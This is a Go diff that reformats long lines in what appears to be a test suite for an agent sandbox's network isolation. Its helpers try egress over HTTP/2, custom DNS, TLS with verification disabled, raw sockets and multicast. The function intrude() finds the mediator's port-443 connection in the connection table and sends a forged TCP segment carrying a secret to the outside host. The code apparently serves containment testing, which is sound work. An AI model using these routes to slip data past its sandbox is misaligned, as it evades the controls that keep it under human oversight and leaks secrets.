@@ -75,7 +75,8 @@ func talk(c net.Conn, text string) error {
 	if n == 0 {
 		return fmt.Errorf("no answer: %w", err)
 	}
-	if line, _, _ := bytes.Cut(b[:n], []byte("\r\n")); bytes.HasPrefix(line, []byte("HTTP/1.")) && !bytes.Contains(line, []byte(" 200 ")) {
+	if line, _, _ := bytes.Cut(b[:n], []byte("\r\n")); bytes.HasPrefix(line, []byte("HTTP/1.")) &&
+		!bytes.Contains(line, []byte(" 200 ")) {
 		return errors.New(string(line))
 	}
 	return nil
@@ -162,7 +163,10 @@ func overHTTP2(fields ...string) func(net.Conn) error {
 		}
 		f := http2.NewFramer(c, c)
 		f.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
-		if err := errors.Join(f.WriteSettings(), f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true})); err != nil {
+		if err := errors.Join(f.WriteSettings(),
+			f.WriteHeaders(
+				http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes(), EndHeaders: true,
+					EndStream: true})); err != nil {
 			return err
 		}
 		for {
@@ -193,10 +197,13 @@ func client(method, url string) func() error {
 }
 
 func fetch(method, url string) error {
-	resolver := net.Dialer{Resolver: &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
-		return (&net.Dialer{}).DialContext(ctx, network, worldAddress+":53")
-	}}}
-	c := &http.Client{Timeout: 2 * agentPatience, Transport: &http.Transport{Proxy: http.ProxyFromEnvironment, DialContext: resolver.DialContext, TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
+	resolver := net.Dialer{
+		Resolver: &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
+			return (&net.Dialer{}).DialContext(ctx, network, worldAddress+":53")
+		}}}
+	c := &http.Client{Timeout: 2 * agentPatience,
+		Transport: &http.Transport{Proxy: http.ProxyFromEnvironment, DialContext: resolver.DialContext,
+			TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
 	req, err := http.NewRequest(method, url, nil)
 	if err != nil {
 		return err
@@ -224,7 +231,9 @@ func post() error {
 	}
 	return inTunnel(worldHost+":443", withTLS(worldHost, func(c net.Conn) error {
 		_ = c.SetDeadline(time.Now().Add(2 * agentPatience))
-		if _, err := io.WriteString(c, "POST /posts HTTP/1.1\r\nHost: "+worldHost+"\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"); err != nil {
+		if _, err := io.WriteString(c,
+			"POST /posts HTTP/1.1\r\nHost: "+worldHost+
+				"\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"); err != nil {
 			return err
 		}
 		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
@@ -240,7 +249,8 @@ func post() error {
 }
 
 // bySocket makes a socket by hand, and sends a payload to a destination.
-func bySocket(family, kind, protocol int, to unix.Sockaddr, payload []byte, options ...func(fd int) error) func() error {
+func bySocket(family, kind, protocol int, to unix.Sockaddr, payload []byte,
+	options ...func(fd int) error) func() error {
 	return func() error {
 		fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, protocol)
 		if err != nil {
@@ -307,7 +317,8 @@ func intrude() error {
 	}
 	for line := range strings.Lines(string(raw)) {
 		fields := strings.Fields(line)
-		if len(fields) < 8 || fields[7] != fmt.Sprint(mediatorUID) || fields[3] != "01" || !strings.HasSuffix(fields[2], ":01BB") {
+		if len(fields) < 8 || fields[7] != fmt.Sprint(mediatorUID) || fields[3] != "01" ||
+			!strings.HasSuffix(fields[2], ":01BB") {
 			continue
 		}
 		from, err := strconv.ParseUint(fields[1][len(fields[1])-4:], 16, 16)
@@ -316,7 +327,8 @@ func intrude() error {
 		}
 		data := append(segment(uint16(from), 443), secret...)
 		data[13] = 0x18 // PSH and ACK
-		return bySocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, inet(worldAddress, 0), ipv4Packet(unix.IPPROTO_TCP, podAddress, worldAddress, data))()
+		return bySocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, inet(worldAddress, 0),
+			ipv4Packet(unix.IPPROTO_TCP, podAddress, worldAddress, data))()
 	}
 	return errors.New("the mediator has no connection")
 }
@@ -379,7 +391,8 @@ func join() error {
 		return err
 	}
 	defer unix.Close(fd)
-	return unix.SetsockoptIPMreq(fd, unix.IPPROTO_IP, unix.IP_ADD_MEMBERSHIP, &unix.IPMreq{Multiaddr: [4]byte{239, 1, 2, 3}, Interface: netip.MustParseAddr(podAddress).As4()})
+	return unix.SetsockoptIPMreq(fd, unix.IPPROTO_IP, unix.IP_ADD_MEMBERSHIP,
+		&unix.IPMreq{Multiaddr: [4]byte{239, 1, 2, 3}, Interface: netip.MustParseAddr(podAddress).As4()})
 }
 
 // fastOpen sends data in the SYN (RFC 7413).
